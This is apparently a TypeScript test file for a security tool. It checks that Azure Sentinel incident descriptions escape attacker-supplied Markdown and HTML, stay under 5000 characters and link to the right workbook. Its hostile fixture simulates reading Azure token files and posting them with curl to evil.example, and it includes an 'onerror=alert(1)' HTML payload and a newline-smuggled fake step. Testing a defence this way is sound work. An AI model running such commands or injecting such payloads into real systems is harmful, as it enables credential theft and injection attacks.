/**
 * The Sentinel incident of a story, as Sentinel would show it: the story rules' alertDescriptionFormat
 * with {{IncidentDescription}} from the row and {{WorkbookLink}} as the rule query builds it (its
 * fixed part as sentinelContent.bicep builds it, for the longest ids Azure allows). For every golden
 * story and for a story whose every name is hostile Markdown/HTML: at most 5000 characters, no raw
 * Markdown or HTML from attacker strings, and a workbook link that opens the story's StoryId.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { pod, proc, tetragonConnect, tetragonExec, tetragonFile } from '../../src/demo/builders.ts';
import { ScenarioBuilder } from '../../src/demo/scenario.ts';
import { agentTurn } from '../../src/demo/scenarios.ts';
import type { Story } from '../../src/model/story.ts';
import { storyRow } from '../../src/sinks/rows.ts';
import { DESCRIPTION_MAX } from '../../src/story/incidentDescription.ts';
import { liveStories, runScenario } from '../helpers/pipeline.ts';
import { loadYaml, ROOT } from '../helpers/kusto.ts';

interface Rule {
  name: string;
  query: string;
  alertDetailsOverride: { alertDisplayNameFormat: string; alertDescriptionFormat: string };
}

const storyRules = loadYaml<Rule>('kql/rules').filter((r) => r.doc.name.startsWith('Causeway attack story'));
const generated = JSON.parse(readFileSync(ROOT + 'infra/generated/rules.json', 'utf8')) as {
  workbookLinkMarker: string;
};
const bicep = readFileSync(ROOT + 'infra/modules/sentinelContent.bicep', 'utf8');

/** The longest resource ids Azure allows: resource group 90 characters, workspace 63. */
const WORKSPACE_ID = `/subscriptions/${'f'.repeat(8)}-ffff-ffff-ffff-${'f'.repeat(12)}/resourceGroups/${'r'.repeat(90)}/providers/Microsoft.OperationalInsights/workspaces/${'w'.repeat(63)}`;
const WORKBOOK_ID = `/subscriptions/${'f'.repeat(8)}-ffff-ffff-ffff-${'f'.repeat(12)}/resourceGroups/${'r'.repeat(90)}/providers/Microsoft.Insights/workbooks/${'0'.repeat(8)}-0000-0000-0000-${'0'.repeat(12)}`;

/** The link's fixed part, as sentinelContent.bicep's `workbookLink` variable builds it. */
function linkPrefix(): string {
  const template = /^var workbookLink = '(.*)'$/m.exec(bicep)?.[1];
  if (!template) throw new Error('sentinelContent.bicep has no workbookLink variable');
  return template
    .replace('${uriComponent(workspace.id)}', encodeURIComponent(WORKSPACE_ID))
    .replace(
      "${uriComponent(resourceId('Microsoft.Insights/workbooks', workbookName))}",
      encodeURIComponent(WORKBOOK_ID),
    );
}

/** What the rule query's WorkbookLink column holds for a story (the expression is checked below). */
const NOTEBOOK_PARAMS = (storyId: string) => `{"StoryId":"${storyId}","TimeRange":{"durationMs":1209600000}}`;
const WORKBOOK_LINK_KQL = `WorkbookLink = strcat("${generated.workbookLinkMarker}", url_encode_component(strcat('{"StoryId":"', StoryId, '","TimeRange":{"durationMs":1209600000}}')))`;

/** The alert description Sentinel shows for a story row under a rule. */
function alertDescription(rule: Rule, row: Record<string, unknown>): string {
  const link = linkPrefix() + encodeURIComponent(NOTEBOOK_PARAMS(String(row.StoryId)));
  return rule.alertDetailsOverride.alertDescriptionFormat
    .replace('{{IncidentDescription}}', String(row.IncidentDescription))
    .replace('{{WorkbookLink}}', link);
}

/**
 * What Markdown or HTML could be made of attacker strings: outside the description's code spans
 * (where our own words are), no markup characters; inside them, nothing that ends the span, no angle
 * brackets and no URL a viewer would turn into a link.
 */
function markupLeaks(description: string): string[] {
  const leaks: string[] = [];
  const body = description.replace(/\nOpen the story in the Causeway workbook: https:\/\/portal\.azure\.com\/\S+$/, '');
  const outside = body.replace(/`[^`\n]*`/g, '');
  for (const m of outside.matchAll(/[<>[\]{}*_|#\\]|:\/\/|`/g)) leaks.push(`outside a code span: ${m[0]}`);
  for (const m of body.matchAll(/`([^`\n]*)`/g))
    if (/[<>]|:\/\//.test(m[1]!)) leaks.push(`inside a code span: ${m[1]}`);
  return leaks;
}

function goldenStories(): Story[] {
  const dir = ROOT + 'test/scenario/golden/';
  return readdirSync(dir)
    .filter((f) => f.endsWith('.json'))
    .flatMap((f) => JSON.parse(readFileSync(dir + f, 'utf8')) as Story[]);
}

const HOSTILE = '**x** _y_ [z](https://evil.example/a) <img src=x onerror=alert(1)> # h `c` {{StoryTitle}} | t';

/** A tool call whose agent name, tool name, command lines and file path are all hostile markup. */
function hostileScenario() {
  const base = Date.parse('2026-11-20T10:00:00Z');
  const agent = pod('aks-demo', 'agents', 'hostile-agent', 1);
  const tools = pod('aks-demo', 'agents', 'hostile-tools', 2, { container: 'mcp' });
  const b = new ScenarioBuilder();
  const server = proc(tools, 1, '/usr/local/bin/node', '/app/server.js', base - 600_000);
  agentTurn(b, agent, `agent ${HOSTILE}`, 'hostile', base + 1000, [
    {
      tool: `tool ${HOSTILE}`,
      server: tools,
      start: base + 2000,
      end: base + 5000,
      activity: (bb, at) => {
        const sh = proc(
          tools,
          7,
          '/bin/sh',
          `-c "cat /var/run/secrets/azure/tokens/${HOSTILE}"\n1. 10:00:00.000 fake step`,
          at + 100,
          server,
        );
        const cat = proc(tools, 8, '/bin/cat', `/var/run/secrets/azure/tokens/${HOSTILE}`, at + 110, sh);
        const curl = proc(tools, 9, '/usr/bin/curl', `-d @- https://evil.example/${HOSTILE}`, at + 300, sh);
        for (const p of [sh, cat, curl]) bb.tetragonLine(p.start, tetragonExec(p));
        bb.tetragonLine(at + 120, tetragonFile(cat, at + 120, `/var/run/secrets/azure/tokens/${HOSTILE}`));
        bb.tetragonLine(at + 400, tetragonConnect(curl, at + 400, '203.0.113.66', 443));
      },
    },
  ]);
  return b.build();
}

describe('the Sentinel incident description', () => {
  it('the story rules fill it from IncidentDescription and a WorkbookLink built from the StoryId', () => {
    expect(storyRules.map((r) => r.file).sort()).toEqual([
      'kql/rules/causeway-attack-story-nrt.yaml',
      'kql/rules/causeway-attack-story.yaml',
    ]);
    for (const { doc } of storyRules) {
      expect(doc.alertDetailsOverride.alertDescriptionFormat).toBe(
        '{{IncidentDescription}}\nOpen the story in the Causeway workbook: {{WorkbookLink}}',
      );
      expect(doc.query.replace(/\s+/g, ' ')).toContain(WORKBOOK_LINK_KQL);
    }
    expect(bicep).toContain('replace(rule.properties.query, rules.workbookLinkMarker, workbookLink)');
    expect(linkPrefix()).toMatch(
      /^https:\/\/portal\.azure\.com\/#view\/AppInsightsExtension\/WorkbookViewerBlade\/ComponentId\/%2Fsubscriptions%2F.+\/ConfigurationId\/%2Fsubscriptions%2F.+%2Fworkbooks%2F.+\/Type\/sentinel\/NotebookParams\/$/,
    );
  });

  const stories = goldenStories();
  it('there is a golden story for each attack scenario', () => expect(stories.length).toBeGreaterThanOrEqual(4));

  for (const story of stories)
    it(`fits Sentinel, leaks no markup and links the workbook on the story: ${story.title}`, () => {
      const row = storyRow(story);
      expect(String(row.IncidentDescription).length).toBeLessThanOrEqual(DESCRIPTION_MAX);
      for (const { doc } of storyRules) {
        const text = alertDescription(doc, row);
        expect(text.length).toBeLessThanOrEqual(5000);
        expect(markupLeaks(text)).toEqual([]);
        const link = /https:\/\/portal\.azure\.com\/\S+$/.exec(text)![0];
        const params = JSON.parse(decodeURIComponent(link.split('/NotebookParams/')[1]!)) as { StoryId: string };
        expect(params.StoryId).toBe(story.storyId);
        expect(text).toContain(`CausewayEvidence | where StoryId == "${story.storyId}"`);
        expect(text).toMatch(/\n1\. \d\d:\d\d:\d\d\.\d{3} /);
        expect(text).toMatch(/\nRisk \d+: highest signal severity is \w+ \(\+\d+\)/);
      }
      expect(story.title.length).toBeLessThanOrEqual(120);
    });

  it('keeps every hostile name of a story inside code spans, and out of the title', async () => {
    const run = await runScenario(hostileScenario());
    const [story] = liveStories(run);
    expect(story).toBeDefined();
    const text = alertDescription(storyRules[0]!.doc, storyRow(story!));
    expect(markupLeaks(text)).toEqual([]);
    expect(text).toContain(
      "`tool **x** _y_ [z](https[:]//evil.example/a) ‹img src=x onerror=alert(1)› # h 'c' {{StoryTitle}} | t`",
    );
    expect(text).not.toContain('<img');
    // The newline in the command line did not make a step of its own.
    expect(text.match(/^\d+\. /gm)?.length).toBe(text.split('\n').filter((l) => /^\d+\. \d\d:/.test(l)).length);
    expect(text).not.toMatch(/^1\. 10:00:00\.000 fake step/m);
    expect(story!.title).not.toMatch(/[<>*[\]{}|#`]/);
  });
});
